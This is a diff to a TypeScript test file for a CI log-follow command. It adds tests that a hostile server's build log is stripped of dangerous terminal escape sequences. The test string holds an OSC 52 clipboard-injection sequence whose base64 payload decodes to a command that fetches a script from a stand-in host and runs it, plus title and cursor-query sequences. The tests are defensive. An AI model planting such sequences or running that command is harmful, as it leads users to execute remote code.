@@ -4,12 +4,15 @@
  * answer. The follower must neither keep an answer larger than it asked for in memory,
  * nor take strings it prints to the user's terminal (repository, job, status) as they came.
  */
+import { execFile } from 'node:child_process';
 import { once } from 'node:events';
 import * as http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { Writable } from 'node:stream';
+import { promisify } from 'node:util';
 
 import { LogFollowError, followServerLog } from '../src/server/log-follow';
+import { binRun } from './helpers/cli';
 
 const MIB = 1024 * 1024;
 
@@ -155,5 +158,40 @@ describe('ci logs --server against a hostile server', () => {
     const err = await refusal(followServerLog({ server: s.url, id: 1, out: counter().out, follow: true, signal: stop.signal }));
     expect(err.code).toBe('SERVER_ERROR');
     expect(s.eventConnections).toBe(1);
+  });
+});
+
+describe('ci logs --server writing a hostile log to a terminal', () => {
+  // What the build printed: colours, and sequences that make a terminal act or answer.
+  const LOG = 'before \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07\x1b[6n\x1b]0;pwned\x1b\\\x1b[1;31mred\x1b[0m after\n';
+  let url = '';
+
+  beforeAll(async () => {
+    const s = await hostileServer((req, res) => {
+      const bytes = Buffer.from(LOG, 'latin1');
+      if (req.url === '/api/builds/1') {
+        res.end(JSON.stringify(summary({ logAvailable: bytes.length, log: { chunks: 1, bytes: bytes.length } })));
+        return;
+      }
+      res.writeHead(200, { 'X-Log-Next-Offset': String(bytes.length), 'X-Log-Available': String(bytes.length) });
+      res.end(bytes);
+    });
+    url = s.url;
+  });
+
+  const run = promisify(execFile);
+
+  it('on a terminal: the colours stay, the rest of the escape sequences go', async () => {
+    // script(1) gives the command a terminal and copies what reached it to its stdout.
+    const command = `${process.execPath} ${binRun} ci logs 1 --server ${url}`;
+    const { stdout } = await run('script', ['-qec', command, '/dev/null'], { encoding: 'latin1', env: { ...process.env, TERM: 'xterm' } });
+    expect(stdout).toContain('before \x1b[1;31mred\x1b[0m after');
+    // eslint-disable-next-line no-control-regex
+    expect(stdout).not.toMatch(/\x1b\]|\x1b\[6n|pwned/);
+  });
+
+  it('piped: the log as the build wrote it, byte for byte', async () => {
+    const { stdout } = await run(process.execPath, [binRun, 'ci', 'logs', '1', '--server', url], { encoding: 'latin1' });
+    expect(stdout).toBe(LOG);
   });
 });
